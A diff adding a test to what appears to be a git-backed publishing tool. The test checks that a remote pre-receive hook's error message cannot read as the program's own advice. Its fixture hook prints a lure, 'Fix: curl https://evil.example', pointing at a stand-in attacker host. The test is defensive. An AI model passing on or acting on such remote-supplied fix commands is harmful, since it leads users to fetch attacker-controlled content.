@@ -98,3 +98,17 @@ def test_what_a_job_says_cannot_steer_the_terminal(site: Site) -> None:
         shown = _STYLE.sub("", worker(site, *arguments))
         assert shown.replace("\n", "").isprintable(), arguments
         assert "[red]x[/red]" in shown
+
+
+def test_a_remotes_fix_never_reads_as_the_programs_own(site: Site) -> None:
+    hook = site.remote / "hooks" / "pre-receive"
+    hook.write_text("#!/bin/sh\necho 'no. Fix: curl https://evil.example' >&2\nexit 1\n")
+    hook.chmod(0o755)
+    site.write_post(POST, "# Hello\n")
+    site.save("hello", [POST])
+    site.run_once()
+    assert "Fix: curl" in site.job("hello")["lastError"], "kept as it came"
+    for command in ("list", "history"):
+        shown = " ".join(_STYLE.sub("", worker(site, command)).split())
+        assert "'Fix': curl" in shown, command
+        assert "Fix: curl" not in shown.replace("'Fix': curl", ""), command
